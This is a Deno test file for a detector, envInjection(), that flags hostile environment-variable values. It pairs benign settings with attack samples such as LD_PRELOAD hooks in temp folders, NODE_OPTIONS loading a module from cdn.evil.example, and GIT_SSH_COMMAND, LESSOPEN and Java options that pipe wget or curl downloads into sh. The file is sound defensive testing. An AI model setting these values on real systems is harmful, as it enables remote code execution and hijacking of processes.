import assert from "node:assert/strict";
import { envInjection } from "./_cmd_env.ts";

const ATTACKS: ReadonlyArray<[key: string, value: string, inline: boolean]> = [
  ["ld_preload", "/dev/shm/.libhook.so", false],
  ["dyld_insert_libraries", "/private/var/tmp/inject.dylib", false],
  ["rubyopt", "-r/var/tmp/.gemcache/boot.rb", false],
  ["node_options", "--import=data:text/javascript,import('child_process')", false],
  ["node_options", "--experimental-loader https://cdn.evil.example/l.mjs", false],
  ["java_tool_options", "-javaagent:/tmp/agent-1.2.jar=debug", false],
  ["_java_options", "-Xmx2g -XX:OnOutOfMemoryError=\"bash -c 'curl x.example|sh'\"", false],
  ["ps4", "+$(wget -qO- 192.0.2.1/a|sh) ", false],
  ["bash_env", "/proc/self/fd/0", false],
  ["pythonpath", "C:\\Users\\bob\\AppData\\Local\\Temp\\py", false],
  ["command", "LD_PRELOAD=/tmp/x.so /usr/bin/sudo -l", true],
  ["", 'NODE_OPTIONS="--require %TEMP%\\\\hook.js"', true],
  // Command-line variables: a shell, a download or a dropped helper.
  ["git_ssh_command", "bash -c 'id > /tmp/o' #", false],
  ["git_ssh", "/tmp/.x/ssh-wrapper", false],
  ["git_external_diff", "sh -c 'wget -qO- 192.0.2.7/d | sh'", false],
  ["lessopen", "| curl -s 192.0.2.7/l | sh %s", false],
  ["ssh_askpass", "/dev/shm/askpass", false],
  ["env_string", 'GIT_SSH_COMMAND="ssh -o ProxyCommand=$(id)" git fetch', true],
];
/** Env list entries (`list`): one `NAME=value` line, spaces included. */
const LIST_ATTACKS: ReadonlyArray<[key: string, value: string]> = [
  ["env_line", "NODE_OPTIONS=--require /var/tmp/.n/hook.js"],
  ["dotenv", "export RUBYOPT=-r /dev/shm/boot.rb"],
  ["extra_env", "JAVA_TOOL_OPTIONS=-Xmx1g -javaagent:/tmp/a.jar"],
  ["env_vars", "GIT_SSH_COMMAND=sh -c 'curl -s 192.0.2.9/x | sh'"],
];
const LIST_BENIGN: ReadonlyArray<[key: string, value: string]> = [
  ["env_line", "NODE_OPTIONS=--max-old-space-size=4096 --enable-source-maps"],
  ["dotenv", "LOG_DIR=/tmp/logs"],
  ["extra_env", "JAVA_TOOL_OPTIONS=-Xmx1g -Dfile.encoding=UTF-8"],
  ["env_vars", "GIT_SSH_COMMAND=ssh -i /home/ci/.ssh/id_deploy -o IdentitiesOnly=yes"],
];

Deno.test("envInjection() reads an env list entry as one NAME=value line", () => {
  for (const [k, v] of LIST_ATTACKS) {
    assert.equal(typeof envInjection(k, v, true, true), "string", v);
  }
  for (const [k, v] of LIST_BENIGN) assert.equal(envInjection(k, v, true, true), undefined, v);
});
const BENIGN: ReadonlyArray<[key: string, value: string, inline: boolean]> = [
  ["ld_preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", false],
  ["node_options", "--max-old-space-size=4096 --enable-source-maps", false],
  ["node_options", "-r dotenv/config --require ts-node/register", false],
  ["java_tool_options", "-javaagent:/opt/newrelic/newrelic.jar", false],
  ["_java_options", '-XX:OnOutOfMemoryError="kill -9 %p"', false],
  ["pythonpath", "/app/src:/app/lib", false],
  ["bash_env", "/home/ci/.ci_bashrc", false],
  ["text", "Debug with LD_PRELOAD=/tmp/libtrace.so ./app (see the guide)", false],
  ["command", "NODE_OPTIONS=--max-old-space-size=8192 npm run build", true],
  ["path", "/tmp/build/output.log", true],
  [
    "git_ssh_command",
    "ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes -o StrictHostKeyChecking=accept-new",
    false,
  ],
  ["git_ssh_command", "ssh -o ProxyCommand='nc -X 5 -x proxy.corp:1080 %h %p'", false],
  ["prompt_command", "history -a; history -c; history -r", false],
  ["lessopen", "| /usr/bin/lesspipe %s", false],
  ["editor", "code --wait", false],
  ["env", "GIT_SSH_COMMAND=ssh -p 2222", true],
];

Deno.test("envInjection() flags loader variables that pull code from writable or remote places", () => {
  for (const [key, value, inline] of ATTACKS) {
    assert.ok(envInjection(key, value, inline), `${key}=${value}`);
  }
});

Deno.test("envInjection() passes ordinary allocator, heap, agent and path settings", () => {
  for (const [key, value, inline] of BENIGN) {
    assert.equal(envInjection(key, value, inline), undefined, `${key}=${value}`);
  }
});
